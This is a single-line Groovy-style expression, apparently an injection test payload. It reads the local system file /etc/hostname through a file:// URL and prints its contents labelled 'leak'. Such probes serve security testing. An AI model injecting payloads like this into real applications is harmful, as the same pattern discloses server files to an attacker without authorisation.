echo 'leak='+'file:///etc/hostname'.toURL().text
